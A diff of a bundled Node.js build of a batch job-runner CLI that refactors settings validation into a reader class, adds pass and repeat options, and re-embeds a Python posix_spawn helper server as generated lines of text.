@@ -6,8 +6,12 @@ import { createRequire as __WEBPACK_EXTERNAL_createRequire } from "module";
 /***/ ((module, __unused_webpack___webpack_exports__, __nccwpck_require__) => {
 
 __nccwpck_require__.a(module, async (__webpack_handle_async_dependencies__, __webpack_async_result__) => { try {
-/* harmony import */ var _main_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(350);
+/* harmony import */ var _main_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(644);
+/* harmony import */ var _shared_broken_output_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(396);
 
+
+// `… | head -1`, or a `| tee log` killed by the same Ctrl-C: a log nobody reads must not end the run.
+(0,_shared_broken_output_js__WEBPACK_IMPORTED_MODULE_1__/* .ignoreGoneReaders */ .c)();
 // The only place that exits: a module handler's stray timers must not keep a finished run alive.
 const code = await (0,_main_js__WEBPACK_IMPORTED_MODULE_0__/* .main */ .i)(process.argv.slice(2), { stdout: process.stdout, stderr: process.stderr, env: process.env, cwd: process.cwd() });
 process.exitCode = code;
@@ -18,7 +22,7 @@ __webpack_async_result__();
 
 /***/ }),
 
-/***/ 350:
+/***/ 644:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -2648,7 +2652,30 @@ async function* readCsv(spec) {
         yield batch;
 }
 
+;// CONCATENATED MODULE: ./src/core/config/pass-settings.ts
+
+/** A boolean setting: true, false or absent (the CLI gives true for a bare flag). */
+function booleanSetting(reader, key) {
+    const text = reader.text(key);
+    if (text !== undefined && text !== "true" && text !== "false")
+        throw new ConfigError(`${reader.nameOf(key)}: '${text}' must be true or false`);
+    return reader.isTrue(key);
+}
+/** repeat, new-pass, reprocess-changed and version-field. */
+function parsePassSettings(reader, retryFailures) {
+    const { nameOf } = reader;
+    const repeatText = reader.text("repeat");
+    const repeatMs = repeatText === "none" ? undefined : reader.positiveDuration("repeat");
+    const newPass = booleanSetting(reader, "new-pass");
+    if (newPass && retryFailures) {
+        throw new ConfigError(`give ${nameOf("new-pass")} or ${nameOf("retry-failures")}, not both: a new pass attempts every item again, failed ones included`);
+    }
+    const versionField = reader.text("version-field");
+    return { repeatMs, newPass, reprocessChanged: booleanSetting(reader, "reprocess-changed"), ...(versionField === undefined ? {} : { versionField }) };
+}
+
 ;// CONCATENATED MODULE: ./src/core/config/settings.ts
+
 
 
 
@@ -2662,89 +2689,152 @@ const SETTING_DEFAULTS = {
     "transient-exit-codes": "75",
     "max-runs-per-item": "5",
 };
-function parseRunSettings(raw, nameOf) {
-    const text = (key) => {
-        const v = raw[key];
-        if (v === undefined || v === false)
+/**
+ * Reads raw settings as the user gave them: trimmed text, defaults, and numbers and
+ * durations checked against their bounds, every error naming the setting as it was written.
+ */
+class SettingsReader {
+    raw;
+    nameOf;
+    constructor(raw, nameOf) {
+        this.raw = raw;
+        this.nameOf = nameOf;
+    }
+    /** The trimmed text of a setting; undefined when absent, false or blank. */
+    text(key) {
+        const value = this.raw[key];
+        if (value === undefined || value === false)
             return undefined;
-        const s = String(v).trim();
-        return s === "" ? undefined : s;
-    };
-    const withDefault = (key) => text(key) ?? SETTING_DEFAULTS[key];
-    const integer = (key, value, min, max) => {
+        const trimmed = String(value).trim();
+        return trimmed === "" ? undefined : trimmed;
+    }
+    /** True when the setting is the boolean true (CLI) or the text "true" (action). */
+    isTrue(key) {
+        return this.raw[key] === true || this.text(key) === "true";
+    }
+    withDefault(key) {
+        return this.text(key) ?? SETTING_DEFAULTS[key];
+    }
+    integer(key, value, min, max) {
         if (!/^\d+$/.test(value) || Number(value) < min || Number(value) > max) {
-            throw new ConfigError(`${nameOf(key)}: '${value}' must be a whole number from ${min} to ${max}`);
+            throw new ConfigError(`${this.nameOf(key)}: '${value}' must be a whole number from ${min} to ${max}`);
         }
         return Number(value);
-    };
-    const duration = (key, value) => value === undefined ? undefined : parseDurationMs(value, nameOf(key));
-    const retryFailures = raw["retry-failures"] === true || text("retry-failures") === "true";
-    if (text("retry-failures") !== undefined && !["true", "false"].includes(text("retry-failures"))) {
-        throw new ConfigError(`${nameOf("retry-failures")}: '${text("retry-failures")}' must be true or false`);
     }
-    const itemsFile = text("items");
-    const itemsCommand = text("items-command");
+    duration(key, value) {
+        return value === undefined ? undefined : parseDurationMs(value, this.nameOf(key));
+    }
+    /** A duration that must be longer than 0 when given. */
+    positiveDuration(key) {
+        const ms = this.duration(key, this.text(key));
+        if (ms === 0)
+            throw new ConfigError(`${this.nameOf(key)}: must be longer than 0`);
+        return ms;
+    }
+}
+/**
+ * Validates every setting, in a fixed order (so the first problem reported is always the
+ * same one), and returns the run's settings. Throws ConfigError naming what to fix.
+ */
+function parseRunSettings(raw, nameOf) {
+    const reader = new SettingsReader(raw, nameOf);
+    const retryFailures = parseRetryFailures(reader);
+    const items = parseItems(reader, retryFailures);
+    const itemsFormat = parseItemsFormat(reader);
+    const handler = parseHandler(reader);
+    const { backoffMs, backoffMaxMs } = parseBackoff(reader);
+    const itemTimeoutMs = reader.positiveDuration("item-timeout");
+    const timeBudgetMs = reader.positiveDuration("time-budget");
+    const transientExitCodes = parseTransientExitCodes(reader);
+    const maxFailureRate = parseMaxFailureRate(reader);
+    const passSettings = parsePassSettings(reader, retryFailures);
+    return {
+        items,
+        itemsFormat,
+        idField: reader.withDefault("id-field"),
+        handler,
+        concurrency: reader.integer("concurrency", reader.withDefault("concurrency"), 1, 1000),
+        maxAttempts: reader.integer("max-attempts", reader.withDefault("max-attempts"), 1, 100),
+        backoffMs,
+        backoffMaxMs,
+        itemTimeoutMs,
+        timeBudgetMs,
+        shutdownGraceMs: reader.duration("shutdown-grace", reader.withDefault("shutdown-grace")),
+        transientExitCodes,
+        retryFailures,
+        maxRunsPerItem: reader.integer("max-runs-per-item", reader.withDefault("max-runs-per-item"), 1, 10_000),
+        maxFailureRate,
+        rateLimit: parseRateLimit(reader.text("rate-limit"), nameOf("rate-limit")),
+        shard: parseShard(reader.text("shard"), nameOf("shard")),
+        ...passSettings,
+    };
+}
+function parseRetryFailures(reader) {
+    const text = reader.text("retry-failures");
+    if (text !== undefined && !["true", "false"].includes(text)) {
+        throw new ConfigError(`${reader.nameOf("retry-failures")}: '${text}' must be true or false`);
+    }
+    return reader.isTrue("retry-failures");
+}
+/** Exactly one item source, except for a retry-failures pass, which needs none. */
+function parseItems(reader, retryFailures) {
+    const { nameOf } = reader;
+    const itemsFile = reader.text("items");
+    const itemsCommand = reader.text("items-command");
     if (itemsFile && itemsCommand)
         throw new ConfigError(`give ${nameOf("items")} or ${nameOf("items-command")}, not both`);
     if (!itemsFile && !itemsCommand && !retryFailures) {
         throw new ConfigError(`${nameOf("items")} (a file) or ${nameOf("items-command")} (a command printing items) is required`);
     }
-    const items = itemsFile ? { kind: "file", path: itemsFile } : itemsCommand ? { kind: "command", command: itemsCommand } : undefined;
-    const formatText = text("items-format");
+    return itemsFile ? { kind: "file", path: itemsFile } : itemsCommand ? { kind: "command", command: itemsCommand } : undefined;
+}
+function parseItemsFormat(reader) {
+    const formatText = reader.text("items-format");
     if (formatText !== undefined && !ITEMS_FORMATS.includes(formatText)) {
-        throw new ConfigError(`${nameOf("items-format")}: '${formatText}' is not one of ${ITEMS_FORMATS.join(", ")}`);
+        throw new ConfigError(`${reader.nameOf("items-format")}: '${formatText}' is not one of ${ITEMS_FORMATS.join(", ")}`);
     }
-    const handlers = ["run", "module", "worker"].filter((k) => text(k) !== undefined);
-    if (handlers.length === 0)
+    return formatText;
+}
+/** Exactly one of run, module and worker. */
+function parseHandler(reader) {
+    const { nameOf } = reader;
+    const handlers = ["run", "module", "worker"].filter((key) => reader.text(key) !== undefined);
+    if (handlers.length === 0) {
         throw new ConfigError(`a handler is required: ${nameOf("run")} (a command per item), ${nameOf("module")} (a JavaScript file) or ${nameOf("worker")} (a long-lived process)`);
+    }
     if (handlers.length > 1)
         throw new ConfigError(`give one handler, not ${handlers.map(nameOf).join(" and ")}`);
     const handlerKey = handlers[0];
-    const handler = handlerKey === "module" ? { kind: "module", file: text("module") } : { kind: handlerKey === "run" ? "command" : "worker", command: text(handlerKey) };
-    const backoffMs = duration("backoff", withDefault("backoff"));
-    const backoffMaxMs = duration("backoff-max", withDefault("backoff-max"));
-    if (backoffMaxMs < backoffMs)
-        throw new ConfigError(`${nameOf("backoff-max")} (${withDefault("backoff-max")}) must not be shorter than ${nameOf("backoff")} (${withDefault("backoff")})`);
-    const itemTimeoutMs = duration("item-timeout", text("item-timeout"));
-    if (itemTimeoutMs === 0)
-        throw new ConfigError(`${nameOf("item-timeout")}: must be longer than 0`);
-    const timeBudgetMs = duration("time-budget", text("time-budget"));
-    if (timeBudgetMs === 0)
-        throw new ConfigError(`${nameOf("time-budget")}: must be longer than 0`);
-    const codesText = withDefault("transient-exit-codes");
+    return handlerKey === "module" ? { kind: "module", file: reader.text("module") } : { kind: handlerKey === "run" ? "command" : "worker", command: reader.text(handlerKey) };
+}
+function parseBackoff(reader) {
+    const backoffMs = reader.duration("backoff", reader.withDefault("backoff"));
+    const backoffMaxMs = reader.duration("backoff-max", reader.withDefault("backoff-max"));
+    if (backoffMaxMs < backoffMs) {
+        throw new ConfigError(`${reader.nameOf("backoff-max")} (${reader.withDefault("backoff-max")}) must not be shorter than ${reader.nameOf("backoff")} (${reader.withDefault("backoff")})`);
+    }
+    return { backoffMs, backoffMaxMs };
+}
+/** Exit codes 1-255 separated by commas or spaces; `none` for no transient code. */
+function parseTransientExitCodes(reader) {
     const transientExitCodes = new Set();
-    for (const part of codesText.split(/[\s,]+/).filter(Boolean)) {
+    for (const part of reader.withDefault("transient-exit-codes").split(/[\s,]+/).filter(Boolean)) {
         if (part === "none")
             continue;
-        transientExitCodes.add(integer("transient-exit-codes", part, 1, 255));
+        transientExitCodes.add(reader.integer("transient-exit-codes", part, 1, 255));
     }
-    let maxFailureRate;
-    const rateText = text("max-failure-rate");
-    if (rateText !== undefined) {
-        maxFailureRate = Number(rateText.endsWith("%") ? Number(rateText.slice(0, -1)) / 100 : rateText);
-        if (!Number.isFinite(maxFailureRate) || maxFailureRate <= 0 || maxFailureRate > 1 || /^\s*$/.test(rateText)) {
-            throw new ConfigError(`${nameOf("max-failure-rate")}: '${rateText}' must be a share above 0 and at most 1, like 0.2 (or 20%)`);
-        }
+    return transientExitCodes;
+}
+/** A share above 0 and at most 1, as a fraction (0.2) or a percentage (20%). */
+function parseMaxFailureRate(reader) {
+    const rateText = reader.text("max-failure-rate");
+    if (rateText === undefined)
+        return undefined;
+    const maxFailureRate = Number(rateText.endsWith("%") ? Number(rateText.slice(0, -1)) / 100 : rateText);
+    if (!Number.isFinite(maxFailureRate) || maxFailureRate <= 0 || maxFailureRate > 1 || /^\s*$/.test(rateText)) {
+        throw new ConfigError(`${reader.nameOf("max-failure-rate")}: '${rateText}' must be a share above 0 and at most 1, like 0.2 (or 20%)`);
     }
-    return {
-        items,
-        itemsFormat: formatText,
-        idField: withDefault("id-field"),
-        handler,
-        concurrency: integer("concurrency", withDefault("concurrency"), 1, 1000),
-        maxAttempts: integer("max-attempts", withDefault("max-attempts"), 1, 100),
-        backoffMs,
-        backoffMaxMs,
-        itemTimeoutMs,
-        timeBudgetMs,
-        shutdownGraceMs: duration("shutdown-grace", withDefault("shutdown-grace")),
-        transientExitCodes,
-        retryFailures,
-        maxRunsPerItem: integer("max-runs-per-item", withDefault("max-runs-per-item"), 1, 10_000),
-        maxFailureRate,
-        rateLimit: parseRateLimit(text("rate-limit"), nameOf("rate-limit")),
-        shard: parseShard(text("shard"), nameOf("shard")),
-    };
+    return maxFailureRate;
 }
 /** `20/s`, `600/m`, `1000/h`: at most that many item starts per unit. */
 function parseRateLimit(value, what) {
@@ -2771,6 +2861,10 @@ function parseShard(value, what) {
 var external_node_child_process_ = __nccwpck_require__(421);
 ;// CONCATENATED MODULE: ./src/core/platform/system.ts
 
+/** The system clock's time as an ISO 8601 string (what journal records and files store). */
+function isoNow(system) {
+    return new Date(system.nowMs()).toISOString();
+}
 /** Resolves after ms, or early (resolving, not rejecting) when signal aborts. */
 function sleepMs(system, ms, signal) {
     if (signal?.aborted || ms <= 0)
@@ -2918,6 +3012,7 @@ function killGroup(pid, signal) {
 }
 
 ;// CONCATENATED MODULE: ./src/core/handlers/command/spawn-server-source.ts
+// auto-generated from spawn-server.py by scripts/embed-sources.mjs, do not edit.
 /**
  * The spawn server's source: a Python 3.8+ program (stdlib only) that starts item commands
  * with posix_spawn for the Node process that started it. Forking Node itself (a ~100 MB
@@ -2925,251 +3020,255 @@ function killGroup(pid, signal) {
  * process spawns as fast as xargs. spawn-server.ts starts it with `python3 -I -S -c` and
  * describes the protocol; it is a string here so the ncc bundle carries it.
  */
-const SPAWN_SERVER_SOURCE = String.raw `
-# Protocol: see spawn-server.ts. One JSON object per line each way; the first request sets
-# the base environment, so that what Python itself changes in os.environ at start-up
-# (LC_CTYPE, by PEP 538 locale coercion) never reaches a command.
-import base64, errno, json, os, selectors, signal, sys, time
-
-TAIL_BYTES = 16384  # the Node side keeps the last 4000 characters: up to 16 KB of UTF-8
-DRAIN_S = 1.0  # after a child exits, how long a grandchild may keep its pipes open
-READ_BYTES = 65536
-# Children get every signal at its default, as Node's spawn gives them (Python itself
-# ignores SIGPIPE and, here, SIGINT: posix_spawn would pass those on).
-DEFAULT_SIGNALS = set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP}
-
-
-class Child:
-    def __init__(self, token, pid):
-        self.token = token
-        self.pid = pid
-        self.status = None  # from waitpid, once the child has exited
-        self.drain_until = 0.0
-        self.stdin = None  # (fd, memoryview of the bytes left to write)
-        self.reading = set()  # stdout and stderr fds not at end of file yet
-        self.tails = {}  # fd -> bytearray
-
-
-class Server:
-    def __init__(self):
-        self.selector = selectors.DefaultSelector()
-        self.children = {}  # pid -> Child
-        self.draining = set()  # exited children whose pipes are still open
-        self.base_env = {}
-        self.requests = bytearray()
-        self.replies = []
-        wake_r, self.wake_w = os.pipe()
-        os.set_blocking(wake_r, False)
-        os.set_blocking(self.wake_w, False)
-        signal.set_wakeup_fd(self.wake_w, warn_on_full_buffer=False)
-        # A handler (not SIG_DFL) is needed for the wakeup fd to hear SIGCHLD.
-        signal.signal(signal.SIGCHLD, lambda signum, frame: None)
-        self.selector.register(wake_r, selectors.EVENT_READ, self.on_wakeup)
-        os.set_blocking(0, False)
-        self.selector.register(0, selectors.EVENT_READ, self.on_requests)
-
-    def run(self):
-        self.reply({"ready": True})
-        while True:
-            self.flush()
-            timeout = None
-            if self.draining:
-                timeout = max(0.0, min(c.drain_until for c in self.draining) - time.monotonic())
-            for key, _ in self.selector.select(timeout):
-                key.data(key.fd)
-            now = time.monotonic()
-            for child in [c for c in self.draining if c.drain_until <= now]:
-                self.finish(child)
-
-    def reply(self, message):
-        self.replies.append(json.dumps(message, separators=(",", ":")).encode() + b"\n")
-
-    def flush(self):
-        data = memoryview(b"".join(self.replies))
-        self.replies = []
-        try:
-            while data:
-                data = data[os.write(1, data):]  # blocking: Node always reads
-        except BrokenPipeError:
-            self.node_gone()  # Node was killed before its end of our stdin was seen closed
-
-    def on_requests(self, fd):
-        try:
-            chunk = os.read(fd, 1 << 20)
-        except BlockingIOError:
-            return
-        if not chunk:
-            self.node_gone()
-        start = 0
-        scan_from = len(self.requests)  # the bytes before had no newline
-        self.requests += chunk
-        end = self.requests.find(b"\n", scan_from)
-        while end != -1:
-            self.on_request(json.loads(self.requests[start:end]))
-            start = end + 1
-            end = self.requests.find(b"\n", start)
-        del self.requests[:start]
-
-    def node_gone(self):
-        # Node closed our stdin. After a normal end no command is left; if Node was
-        # killed (SIGKILL), the commands it started are stopped with it, so none keeps
-        # running beside the same item started again by the next, resumed run.
-        for pid in self.children:
-            try:
-                os.killpg(pid, signal.SIGTERM)
-            except OSError:
-                pass
-        os._exit(0)
-
-    def on_request(self, request):
-        op = request["op"]
-        if op == "env":
-            self.base_env = {k.encode(): v.encode() for k, v in request["env"].items()}
-        elif op == "spawn":
-            try:
-                self.spawn(request)
-            except OSError as e:
-                name = errno.errorcode.get(e.errno, str(e.errno))
-                self.reply({"token": request["token"], "error": "%s (%s)" % (e.strerror, name)})
-            except Exception as e:  # e.g. ValueError for a NUL byte: fail the item, not the server
-                self.reply({"token": request["token"], "error": str(e)})
-
-    def spawn(self, request):
-        env = dict(self.base_env)
-        for key, value in request["env"].items():
-            if value is None:
-                env.pop(key.encode(), None)
-            else:
-                env[key.encode()] = value.encode()
-        argv = [a.encode() for a in request["argv"]]
-        pipes = []  # stdin, stdout, stderr: (read end, write end)
-        try:
-            for _ in range(3):
-                pipes.append(os.pipe())  # close-on-exec: only the dup2 copies reach the child
-            theirs = [pipes[0][0], pipes[1][1], pipes[2][1]]
-            actions = [(os.POSIX_SPAWN_DUP2, fd, i) for i, fd in enumerate(theirs)]
-            pid = os.posix_spawn(argv[0], argv, env, file_actions=actions, setsid=True, setsigdef=DEFAULT_SIGNALS)
-        except BaseException:
-            for fd in (fd for pipe in pipes for fd in pipe):
-                os.close(fd)
-            raise
-        for fd in theirs:
-            os.close(fd)
-        ours = [pipes[0][1], pipes[1][0], pipes[2][0]]
-        child = Child(request["token"], pid)
-        self.children[pid] = child
-        self.reply({"token": child.token, "pid": pid})
-        stdin, stdout, stderr = ours
-        for fd in ours:
-            os.set_blocking(fd, False)
-        for fd in (stdout, stderr):
-            child.reading.add(fd)
-            child.tails[fd] = bytearray()
-            self.selector.register(fd, selectors.EVENT_READ, lambda fd, c=child: self.on_output(c, fd))
-        child.stdin = (stdin, memoryview(request["stdin"].encode()))
-        self.write_stdin(child)
-        if child.stdin:
-            self.selector.register(stdin, selectors.EVENT_WRITE, lambda fd, c=child: self.write_stdin(c))
-
-    def write_stdin(self, child):
-        fd, data = child.stdin
-        try:
-            while data:
-                data = data[os.write(fd, data):]
-        except BlockingIOError:
-            child.stdin = (fd, data)
-            return
-        except OSError:
-            pass  # EPIPE: the command closed its input early, or never reads it
-        self.close_stdin(child)
-
-    def close_stdin(self, child):
-        if child.stdin is None:
-            return
-        fd = child.stdin[0]
-        child.stdin = None
-        if fd in self.selector.get_map():
-            self.selector.unregister(fd)
-        os.close(fd)
-
-    def on_output(self, child, fd):
-        try:
-            chunk = os.read(fd, READ_BYTES)
-        except BlockingIOError:
-            return
-        except OSError:
-            chunk = b""  # unreadable: treat it as the end of the output
-        if chunk:
-            tail = child.tails[fd]
-            tail += chunk
-            if len(tail) > 2 * TAIL_BYTES:
-                del tail[:-TAIL_BYTES]
-            return
-        self.selector.unregister(fd)
-        os.close(fd)
-        child.reading.discard(fd)
-        if child.status is not None and not child.reading:
-            self.finish(child)
-
-    def on_wakeup(self, fd):
-        try:
-            while os.read(fd, 4096):
-                pass
-        except BlockingIOError:
-            pass
-        while True:
-            try:
-                pid, status = os.waitpid(-1, os.WNOHANG)
-            except ChildProcessError:
-                return
-            if pid == 0:
-                return
-            child = self.children.get(pid)
-            if child is None:
-                continue
-            child.status = status
-            if child.reading:
-                child.drain_until = time.monotonic() + DRAIN_S
-                self.draining.add(child)
-            else:
-                self.finish(child)
-
-    def finish(self, child):
-        self.draining.discard(child)
-        del self.children[child.pid]
-        self.close_stdin(child)
-        for fd in child.reading:
-            self.selector.unregister(fd)
-            os.close(fd)
-        status = child.status
-        message = {"token": child.token}
-        if os.WIFSIGNALED(status):
-            number = os.WTERMSIG(status)
-            try:
-                message["signal"] = signal.Signals(number).name
-            except ValueError:
-                message["signal"] = "SIG%d" % number
-        else:
-            message["code"] = os.WEXITSTATUS(status)
-        if message.get("code") != 0:
-            stdout, stderr = (bytes(t[-TAIL_BYTES:]) for t in child.tails.values())
-            message["stdout"] = base64.b64encode(stdout).decode()
-            message["stderr"] = base64.b64encode(stderr).decode()
-        self.reply(message)
-
-
-def main():
-    if sys.version_info < (3, 8) or not hasattr(os, "posix_spawn"):
-        sys.exit("python 3.8 or later with os.posix_spawn is required")
-    signal.signal(signal.SIGINT, signal.SIG_IGN)
-    # Prove posix_spawn with setsid works here before saying ready.
-    pid = os.posix_spawn("/bin/sh", [b"/bin/sh", b"-c", b":"], {}, setsid=True)
-    os.waitpid(pid, 0)
-    Server().run()
-
-
-main()
-`;
+const SPAWN_SERVER_SOURCE = [
+    "# The spawn server: started by spawn-server.ts as `python3 -I -S -c <this file's text>`.",
+    "# scripts/embed-sources.mjs copies this file into spawn-server-source.ts (run by npm run build,",
+    "# typecheck and test); edit this file, never the generated module.",
+    "# Protocol: see spawn-server.ts. One JSON object per line each way; the first request sets",
+    "# the base environment, so that what Python itself changes in os.environ at start-up",
+    "# (LC_CTYPE, by PEP 538 locale coercion) never reaches a command.",
+    "import base64, errno, json, os, selectors, signal, sys, time",
+    "",
+    "TAIL_BYTES = 16384  # the Node side keeps the last 4000 characters: up to 16 KB of UTF-8",
+    "DRAIN_S = 1.0  # after a child exits, how long a grandchild may keep its pipes open",
+    "READ_BYTES = 65536",
+    "# Children get every signal at its default, as Node's spawn gives them (Python itself",
+    "# ignores SIGPIPE and, here, SIGINT: posix_spawn would pass those on).",
+    "DEFAULT_SIGNALS = set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP}",
+    "",
+    "",
+    "class Child:",
+    "    def __init__(self, token, pid):",
+    "        self.token = token",
+    "        self.pid = pid",
+    "        self.status = None  # from waitpid, once the child has exited",
+    "        self.drain_until = 0.0",
+    "        self.stdin = None  # (fd, memoryview of the bytes left to write)",
+    "        self.reading = set()  # stdout and stderr fds not at end of file yet",
+    "        self.tails = {}  # fd -> bytearray",
+    "",
+    "",
+    "class Server:",
+    "    def __init__(self):",
+    "        self.selector = selectors.DefaultSelector()",
+    "        self.children = {}  # pid -> Child",
+    "        self.draining = set()  # exited children whose pipes are still open",
+    "        self.base_env = {}",
+    "        self.requests = bytearray()",
+    "        self.replies = []",
+    "        wake_r, self.wake_w = os.pipe()",
+    "        os.set_blocking(wake_r, False)",
+    "        os.set_blocking(self.wake_w, False)",
+    "        signal.set_wakeup_fd(self.wake_w, warn_on_full_buffer=False)",
+    "        # A handler (not SIG_DFL) is needed for the wakeup fd to hear SIGCHLD.",
+    "        signal.signal(signal.SIGCHLD, lambda signum, frame: None)",
+    "        self.selector.register(wake_r, selectors.EVENT_READ, self.on_wakeup)",
+    "        os.set_blocking(0, False)",
+    "        self.selector.register(0, selectors.EVENT_READ, self.on_requests)",
+    "",
+    "    def run(self):",
+    "        self.reply({\"ready\": True})",
+    "        while True:",
+    "            self.flush()",
+    "            timeout = None",
+    "            if self.draining:",
+    "                timeout = max(0.0, min(c.drain_until for c in self.draining) - time.monotonic())",
+    "            for key, _ in self.selector.select(timeout):",
+    "                key.data(key.fd)",
+    "            now = time.monotonic()",
+    "            for child in [c for c in self.draining if c.drain_until <= now]:",
+    "                self.finish(child)",
+    "",
+    "    def reply(self, message):",
+    "        self.replies.append(json.dumps(message, separators=(\",\", \":\")).encode() + b\"\\n\")",
+    "",
+    "    def flush(self):",
+    "        data = memoryview(b\"\".join(self.replies))",
+    "        self.replies = []",
+    "        try:",
+    "            while data:",
+    "                data = data[os.write(1, data):]  # blocking: Node always reads",
+    "        except BrokenPipeError:",
+    "            self.node_gone()  # Node was killed before its end of our stdin was seen closed",
+    "",
+    "    def on_requests(self, fd):",
+    "        try:",
+    "            chunk = os.read(fd, 1 << 20)",
+    "        except BlockingIOError:",
+    "            return",
+    "        if not chunk:",
+    "            self.node_gone()",
+    "        start = 0",
+    "        scan_from = len(self.requests)  # the bytes before had no newline",
+    "        self.requests += chunk",
+    "        end = self.requests.find(b\"\\n\", scan_from)",
+    "        while end != -1:",
+    "            self.on_request(json.loads(self.requests[start:end]))",
+    "            start = end + 1",
+    "            end = self.requests.find(b\"\\n\", start)",
+    "        del self.requests[:start]",
+    "",
+    "    def node_gone(self):",
+    "        # Node closed our stdin. After a normal end no command is left; if Node was",
+    "        # killed (SIGKILL), the commands it started are stopped with it, so none keeps",
+    "        # running beside the same item started again by the next, resumed run.",
+    "        for pid in self.children:",
+    "            try:",
+    "                os.killpg(pid, signal.SIGTERM)",
+    "            except OSError:",
+    "                pass",
+    "        os._exit(0)",
+    "",
+    "    def on_request(self, request):",
+    "        op = request[\"op\"]",
+    "        if op == \"env\":",
+    "            self.base_env = {k.encode(): v.encode() for k, v in request[\"env\"].items()}",
+    "        elif op == \"spawn\":",
+    "            try:",
+    "                self.spawn(request)",
+    "            except OSError as e:",
+    "                name = errno.errorcode.get(e.errno, str(e.errno))",
+    "                self.reply({\"token\": request[\"token\"], \"error\": \"%s (%s)\" % (e.strerror, name)})",
+    "            except Exception as e:  # e.g. ValueError for a NUL byte: fail the item, not the server",
+    "                self.reply({\"token\": request[\"token\"], \"error\": str(e)})",
+    "",
+    "    def spawn(self, request):",
+    "        env = dict(self.base_env)",
+    "        for key, value in request[\"env\"].items():",
+    "            if value is None:",
+    "                env.pop(key.encode(), None)",
+    "            else:",
+    "                env[key.encode()] = value.encode()",
+    "        argv = [a.encode() for a in request[\"argv\"]]",
+    "        pipes = []  # stdin, stdout, stderr: (read end, write end)",
+    "        try:",
+    "            for _ in range(3):",
+    "                pipes.append(os.pipe())  # close-on-exec: only the dup2 copies reach the child",
+    "            theirs = [pipes[0][0], pipes[1][1], pipes[2][1]]",
+    "            actions = [(os.POSIX_SPAWN_DUP2, fd, i) for i, fd in enumerate(theirs)]",
+    "            pid = os.posix_spawn(argv[0], argv, env, file_actions=actions, setsid=True, setsigdef=DEFAULT_SIGNALS)",
+    "        except BaseException:",
+    "            for fd in (fd for pipe in pipes for fd in pipe):",
+    "                os.close(fd)",
+    "            raise",
+    "        for fd in theirs:",
+    "            os.close(fd)",
+    "        ours = [pipes[0][1], pipes[1][0], pipes[2][0]]",
+    "        child = Child(request[\"token\"], pid)",
+    "        self.children[pid] = child",
+    "        self.reply({\"token\": child.token, \"pid\": pid})",
+    "        stdin, stdout, stderr = ours",
+    "        for fd in ours:",
+    "            os.set_blocking(fd, False)",
+    "        for fd in (stdout, stderr):",
+    "            child.reading.add(fd)",
+    "            child.tails[fd] = bytearray()",
+    "            self.selector.register(fd, selectors.EVENT_READ, lambda fd, c=child: self.on_output(c, fd))",
+    "        child.stdin = (stdin, memoryview(request[\"stdin\"].encode()))",
+    "        self.write_stdin(child)",
+    "        if child.stdin:",
+    "            self.selector.register(stdin, selectors.EVENT_WRITE, lambda fd, c=child: self.write_stdin(c))",
+    "",
+    "    def write_stdin(self, child):",
+    "        fd, data = child.stdin",
+    "        try:",
+    "            while data:",
+    "                data = data[os.write(fd, data):]",
+    "        except BlockingIOError:",
+    "            child.stdin = (fd, data)",
+    "            return",
+    "        except OSError:",
+    "            pass  # EPIPE: the command closed its input early, or never reads it",
+    "        self.close_stdin(child)",
+    "",
+    "    def close_stdin(self, child):",
+    "        if child.stdin is None:",
+    "            return",
+    "        fd = child.stdin[0]",
+    "        child.stdin = None",
+    "        if fd in self.selector.get_map():",
+    "            self.selector.unregister(fd)",
+    "        os.close(fd)",
+    "",
+    "    def on_output(self, child, fd):",
+    "        try:",
+    "            chunk = os.read(fd, READ_BYTES)",
+    "        except BlockingIOError:",
+    "            return",
+    "        except OSError:",
+    "            chunk = b\"\"  # unreadable: treat it as the end of the output",
+    "        if chunk:",
+    "            tail = child.tails[fd]",
+    "            tail += chunk",
+    "            if len(tail) > 2 * TAIL_BYTES:",
+    "                del tail[:-TAIL_BYTES]",
+    "            return",
+    "        self.selector.unregister(fd)",
+    "        os.close(fd)",
+    "        child.reading.discard(fd)",
+    "        if child.status is not None and not child.reading:",
+    "            self.finish(child)",
+    "",
+    "    def on_wakeup(self, fd):",
+    "        try:",
+    "            while os.read(fd, 4096):",
+    "                pass",
+    "        except BlockingIOError:",
+    "            pass",
+    "        while True:",
+    "            try:",
+    "                pid, status = os.waitpid(-1, os.WNOHANG)",
+    "            except ChildProcessError:",
+    "                return",
+    "            if pid == 0:",
+    "                return",
+    "            child = self.children.get(pid)",
+    "            if child is None:",
+    "                continue",
+    "            child.status = status",
+    "            if child.reading:",
+    "                child.drain_until = time.monotonic() + DRAIN_S",
+    "                self.draining.add(child)",
+    "            else:",
+    "                self.finish(child)",
+    "",
+    "    def finish(self, child):",
+    "        self.draining.discard(child)",
+    "        del self.children[child.pid]",
+    "        self.close_stdin(child)",
+    "        for fd in child.reading:",
+    "            self.selector.unregister(fd)",
+    "            os.close(fd)",
+    "        status = child.status",
+    "        message = {\"token\": child.token}",
+    "        if os.WIFSIGNALED(status):",
+    "            number = os.WTERMSIG(status)",
+    "            try:",
+    "                message[\"signal\"] = signal.Signals(number).name",
+    "            except ValueError:",
+    "                message[\"signal\"] = \"SIG%d\" % number",
+    "        else:",
+    "            message[\"code\"] = os.WEXITSTATUS(status)",
+    "        if message.get(\"code\") != 0:",
+    "            stdout, stderr = (bytes(t[-TAIL_BYTES:]) for t in child.tails.values())",
+    "            message[\"stdout\"] = base64.b64encode(stdout).decode()",
+    "            message[\"stderr\"] = base64.b64encode(stderr).decode()",
+    "        self.reply(message)",
+    "",
+    "",
+    "def main():",
+    "    if sys.version_info < (3, 8) or not hasattr(os, \"posix_spawn\"):",
+    "        sys.exit(\"python 3.8 or later with os.posix_spawn is required\")",
+    "    signal.signal(signal.SIGINT, signal.SIG_IGN)",
+    "    # Prove posix_spawn with setsid works here before saying ready.",
+    "    pid = os.posix_spawn(\"/bin/sh\", [b\"/bin/sh\", b\"-c\", b\":\"], {}, setsid=True)",
+    "    os.waitpid(pid, 0)",
+    "    Server().run()",
+    "",
+    "",
+    "main()",
+    "",
+].join("\n");
 
 ;// CONCATENATED MODULE: ./src/core/handlers/command/spawn-server.ts
 
@@ -3858,6 +3957,1055 @@ class Budget {
     }
 }
 
